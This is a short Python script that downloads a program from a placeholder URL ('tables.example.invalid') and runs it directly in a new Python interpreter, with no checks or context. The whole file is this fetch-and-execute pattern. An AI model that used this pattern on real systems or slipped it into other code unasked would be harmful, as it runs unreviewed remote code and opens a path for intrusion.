import sys
from subprocess import run
from urllib.request import urlopen

program = urlopen("https://tables.example.invalid/next").read()
run([sys.executable, "-"], input=program)
